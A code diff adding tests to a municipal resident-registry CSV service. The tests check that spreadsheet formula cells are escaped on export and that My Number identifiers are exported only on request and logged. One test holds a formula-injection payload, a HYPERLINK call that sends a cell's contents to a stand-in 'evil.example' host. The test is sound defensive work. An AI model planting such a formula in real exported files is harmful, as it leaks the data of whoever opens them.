@@ -10,6 +10,7 @@ import { loadMyNumberKeys } from '../registry.config.ts';
 import { generateRegistryCsv } from './registry-csv-generate.ts';
 import { createRegistryCsvService, CsvImportRefused } from './registry-csv.service.ts';
 import type { RowProblem } from './registry-csv-rows.ts';
+import { CSV_COLUMNS, CSV_HEADER, csvRecordLine, headerIndex, readCsvRecords, toRow } from './registry-csv-format.ts';
 
 const M = '202151';
 type Db = Awaited<ReturnType<typeof openTestDatabase>>;
@@ -40,7 +41,7 @@ describe('registry CSV import and export', () => {
 
   const exportText = async (o: { asOf?: string; includeRemoved?: boolean } = {}) => {
     let s = '';
-    await csv.exportCsv(M, (c) => { s += c; }, { includeRemoved: true, ...o });
+    await csv.exportCsv(M, (c) => { s += c; }, { includeRemoved: true, includeMyNumber: true, ...o });
     return s;
   };
   const counts = () => withTenant(db, M, async (trx) => ({
@@ -109,6 +110,52 @@ describe('registry CSV import and export', () => {
   it('keeps tenants apart: the job and the rows are visible only to their municipality', async () => {
     const seen = await withTenant(db, '202029', (trx) => trx.selectFrom('registry.importJob').selectAll().execute());
     expect(seen).toEqual([]);
+  });
+
+  // Issue #15 (defect 5): text cells that a spreadsheet would run as formulas are written with a leading
+  // apostrophe; the import removes it, so export → import → export still gives identical bytes.
+  it('guards formula-like text cells on export and round-trips them exactly', async () => {
+    await wipe();
+    const records: string[][] = [];
+    for await (const r of readCsvRecords(source(good)())) records.push(r.fields);
+    const col = (name: (typeof CSV_COLUMNS)[number]) => CSV_COLUMNS.indexOf(name);
+    const evil = '=HYPERLINK("http://evil.example/?"&A1,"詳細")';
+    const row = [...records[1]!];
+    row[col('住所_方書')] = evil;
+    row[col('転入前住所')] = '-';
+    row[col('本籍')] = row[col('本籍')] ? '@本籍' : '';
+    const file = [CSV_HEADER, ...records.slice(1).map((r, i) => csvRecordLine(i === 0 ? row : r))].join('');
+    expect(file).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""詳細"")"`);
+    await csv.importCsv(M, source(file));
+    const exported = await exportText();
+    expect(exported).toBe(file);
+    // No text cell of the export starts with a formula character; the stored value is the original.
+    for await (const r of readCsvRecords(source(exported)())) {
+      for (const [i, v] of r.fields.entries()) if (!['記載順位'].includes(CSV_COLUMNS[i]!)) expect(v, CSV_COLUMNS[i]).not.toMatch(/^[=+@\t\r]/);
+    }
+    const header = headerIndex(CSV_COLUMNS as unknown as string[]).index;
+    const back: string[][] = [];
+    for await (const r of readCsvRecords(source(exported)())) back.push(r.fields);
+    const stored = back.map((f) => toRow(f, header)).find((r) => r['住所_方書'] === evil);
+    expect(stored?.['転入前住所']).toBe('-');
+  });
+
+  // Issue #15 (defect 6): a bulk export wrote every 個人番号 in clear and left no access-log entry.
+  it('logs exports and imports as batch accesses with their purpose, and exports 個人番号 only when asked', async () => {
+    const log = () => withTenant(db, M, (trx) => trx.selectFrom('audit.accessLog').selectAll().where('action', 'in', ['registry.export', 'registry.import']).orderBy('seq').execute());
+    const before = (await log()).length;
+    let plain = '';
+    await csv.exportCsv(M, (c) => { plain += c; }, { purpose: '統計用抽出', operatorId: 'cli:ops' });
+    expect(plain.split('\r\n').length).toBeGreaterThan(10);
+    const myNumberAt = CSV_COLUMNS.indexOf('個人番号');
+    for await (const r of readCsvRecords(source(plain)())) if (r.line > 1) expect(r.fields[myNumberAt]).toBe('');
+    expect(await exportText()).toMatch(/,\d{12},/);
+    const entries = (await log()).slice(before);
+    expect(entries.map((e) => [e.action, e.actorType, e.purpose, e.myNumberAccessed])).toEqual([
+      ['registry.export', 'operator', '統計用抽出', false],
+      ['registry.export', 'operator', '住民記録の出力（CSV）', true],
+    ]);
+    expect((await log()).some((e) => e.action === 'registry.import' && e.myNumberAccessed)).toBe(true);
   });
 
   it('is refused as a CsvImportRefused for an empty file', async () => {
